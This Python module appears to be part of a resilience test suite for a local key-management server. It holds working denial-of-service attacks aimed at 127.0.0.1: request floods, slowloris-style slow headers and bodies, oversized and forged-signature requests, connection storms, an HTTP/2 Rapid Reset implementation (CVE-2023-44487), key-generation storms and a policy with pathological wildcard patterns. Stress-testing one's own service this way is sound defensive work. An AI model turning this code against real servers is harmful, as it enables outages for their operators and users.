"""Attacks on a server, each by a process of its own, so that the clients beside it are not slowed down by the attacker.

An attack gets a target and does its worst until it is ended. It returns nothing: what counts is what others feel.
"""

import contextlib
import itertools
import json
import selectors
import socket
import threading
import time

from kill import Line, Lost

HEAD = b"POST / HTTP/1.1\r\nHost: localhost\r\nX-Amz-Target: TrentService.ListKeys\r\n"
UNSIGNED = HEAD + b"Content-Length: 2\r\n\r\n{}"
# An access key that exists, and a signature that does not hold.
FORGED = (
    "Authorization: AWS4-HMAC-SHA256 Credential={id}/20260101/us-east-1/kms/aws4_request, "
    "SignedHeaders=host;x-amz-date, Signature={signature}\r\nX-Amz-Date: 20260101T000000Z\r\n"
)
KIB = 1024
# Frames of HTTP/2 (RFC 9113, section 4.1), and fields of a request from the static table of HPACK (RFC 7541, appendix A).
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FIELDS = b"\x83\x86\x84\x41\x01h"
DATA, HEADERS, RST_STREAM, SETTINGS = 0, 1, 3, 4
END_HEADERS = 4


class Target:
    """Where to attack, with what means, and by how many connections."""

    def __init__(self, deployment, connections, user, key):
        self.port = deployment.port
        self.access_key = deployment.credentials["aws_access_key_id"]
        self.connections = connections
        # Somebody who may use the key: credentials like those of a deployment, and where to call.
        self.user = user
        self.key = key

    def connect(self, source="127.0.0.1"):
        """A connection that does not wait; `None` if there is none to be had."""
        connection = socket.socket()
        connection.bind((source, 0))
        connection.settimeout(2)
        try:
            connection.connect(("127.0.0.1", self.port))
        except OSError:
            connection.close()
            return None
        connection.setblocking(False)
        return connection


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def hold(target, chunks, sources=("127.0.0.1",), pause=0.0):
    """Keeps all connections open and sends on each what its chunks are, again and again. What is answered is read and thrown
    away; connections that end are opened anew. `chunks` makes the chunks of one connection."""
    watched = selectors.DefaultSelector()
    from_where = itertools.cycle(sources)

    def open():
        if connection := target.connect(next(from_where)):
            watched.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE, [chunks(), b""])

    while True:
        # A few in each round, so that those that are open go on.
        for _ in range(min(50, target.connections - len(watched.get_map()))):
            open()
        for chosen, events in watched.select(0.1):
            if not alive(chosen.fileobj, chosen.data, events):
                watched.unregister(chosen.fileobj)
                chosen.fileobj.close()
        time.sleep(pause)


def alive(connection, state, events):
    """Reads and sends what can be read and sent now. Whether the connection goes on."""
    try:
        if events & selectors.EVENT_READ and not connection.recv(64 * KIB):
            return False
        if events & selectors.EVENT_WRITE:
            state[1] = state[1] or next(state[0], b"")
            state[1] = state[1][connection.send(state[1]):] if state[1] else b""
    except BlockingIOError:
        pass
    except OSError:
        return False
    return True


def unsigned_flood(target):
    hold(target, lambda: itertools.repeat(UNSIGNED * 20))


def flood_from_everywhere(target):
    sources = [f"127.0.{high}.{low}" for high in range(1, 9) for low in range(1, 251)]
    hold(target, lambda: iter([UNSIGNED * 20]), sources)


def slow_heads(target):
    hold(target, lambda: itertools.chain([HEAD], itertools.repeat(b"X: y\r\n")), pause=0.2)


def half_bodies(target):
    head = HEAD + b"Content-Length: 30000\r\n\r\n" + b"x" * 10_000
    hold(target, lambda: itertools.chain([head], itertools.repeat(b"x")), pause=0.2)


def body_bombs(target):
    forged = FORGED.format(id=target.access_key, signature="0" * 64).encode()
    head = HEAD + forged + b"Content-Length: 1048576\r\n\r\n"
    # All but the last byte.
    hold(target, lambda: itertools.chain([head, b"x" * (KIB * KIB - 1)], itertools.repeat(b"")))


def header_bombs(target):
    hold(target, lambda: iter([b"POST / HTTP/1.1\r\nHost: h\r\nX: " + b"x" * 40 * KIB + b"\r\n\r\n"]))


def connection_storm(target):
    while True:
        opened = [target.connect() for _ in range(50)]
        for connection in filter(None, opened):
            connection.close()


def rapid_resets(target):
    """CVE-2023-44487."""

    def chunks():
        yield PREFACE + frame(SETTINGS, 0, 0)
        for first in itertools.count(1, 200):
            streams = range(first, first + 200, 2)
            yield b"".join(
                frame(HEADERS, END_HEADERS, stream, FIELDS) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                for stream in streams
            )

    hold(target, chunks)


def stuffed_streams(target):
    """Streams with large heads, whose bodies are begun and not ended."""
    large = FIELDS + b"".join(b"\x00\x02x%c" % (97 + each) + b"\x7f\x81\x16" + b"y" * 2944 for each in range(4))

    def chunks():
        yield PREFACE + frame(SETTINGS, 0, 0)
        for stream in range(1, 64, 2):
            yield frame(HEADERS, END_HEADERS, stream, large) + frame(DATA, 0, stream, b"x" * 2000)
        yield from itertools.repeat(b"")

    hold(target, chunks, pause=0.05)


def key_pair_storm(target):
    """One user has RSA keys made, as many at a time as there are connections, and 64 at most."""
    call_for_ever(target, min(64, target.connections), "GenerateDataKeyPair", KeyId=target.key, KeyPairSpec="RSA_4096")


def hostile_patterns(target):
    """The user's own policy has patterns that match in many ways; the target's user has one, see `abuse.py`."""
    context = {f"k{number}": "a" * 600 for number in range(10)}
    call_for_ever(target, 4, "Encrypt", KeyId=target.key, Plaintext="eA==", EncryptionContext=context)


def call_for_ever(target, threads, operation, **given):
    def work():
        while True:
            with contextlib.suppress(Lost, AssertionError), Line(target.user) as line:
                while True:
                    line.call(operation, **given)

    workers = [threading.Thread(target=work, daemon=True) for _ in range(threads)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()


ATTACKS = [
    unsigned_flood,
    flood_from_everywhere,
    slow_heads,
    half_bodies,
    body_bombs,
    header_bombs,
    connection_storm,
    rapid_resets,
    stuffed_streams,
    key_pair_storm,
    hostile_patterns,
]


def policy():
    """What the target's user may do: everything with keys, and a denial whose patterns fit in very many ways and never."""
    hostile = "*a" * 50 + "*b"
    conditions = {f"kms:EncryptionContext:k{number}": hostile for number in range(10)}
    return json.dumps({
        "Version": "2012-10-17",
        "Statement": [
            {"Effect": "Allow", "Action": "kms:*", "Resource": "*"},
            {"Effect": "Deny", "Action": "kms:Encrypt", "Resource": "*", "Condition": {"StringLike": conditions}},
        ],
    }, separators=(",", ":"))
